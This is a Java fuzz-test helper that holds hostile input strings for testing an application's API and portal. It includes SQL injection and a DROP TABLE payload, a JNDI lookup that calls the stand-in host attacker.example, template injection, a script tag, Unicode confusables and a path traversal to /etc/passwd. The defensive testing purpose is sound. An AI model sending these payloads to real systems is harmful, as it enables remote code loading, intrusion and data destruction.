package org.vettedaccess.e2e.support;

import static org.quicktheories.generators.SourceDSL.strings;

import io.restassured.config.HttpClientConfig;
import io.restassured.config.RestAssuredConfig;
import java.util.List;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/**
 * Hostile text for fuzzing, shared by the API and the portal fuzz tests: SQL, JNDI and template injection,
 * script, bidi overrides and Unicode confusables, path traversal, NUL and lone surrogates, numbers no parser
 * likes, control characters, arbitrary code points, and a value too big for any field.
 */
public final class Hostile {

    /** Strings chosen to reach an injection or a parser's edge. */
    public static final List<String> STRINGS = List.of(
            "' OR '1'='1' --",
            "\"; DROP TABLE leaves; --",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}",
            "{#for x in 1..99999}{x}{/for}",
            "#{7*7}",
            "<script>alert(1)</script>",
            "\u202Egnp.exe",
            "\u0430dmin",
            "pa\u0443pal",
            "\uFEFFalice",
            "../../../../etc/passwd",
            "%00",
            "\u0000",
            "\uD800",
            "1e309",
            "-0",
            "NaN",
            "2026-13-45T99:99:99Z",
            "0000-0002-1825-009X\u0000");

    /** Every answer must come within these: a request that takes longer is a hang. */
    public static final RestAssuredConfig TIMEOUTS = RestAssuredConfig.config()
            .httpClient(HttpClientConfig.httpClientConfig()
                    .setParam("http.connection.timeout", 5_000)
                    .setParam("http.socket.timeout", 15_000));

    private Hostile() {}

    /** One hostile text: a chosen string, any code points, control characters, or 300,000 characters. */
    public static Gen<String> text() {
        return Generate.oneOf(
                Generate.pick(STRINGS),
                strings().allPossible().ofLengthBetween(0, 40),
                strings().betweenCodePoints(0, 0x1f).ofLengthBetween(0, 12),
                Generate.constant("x".repeat(300_000)));
    }
}
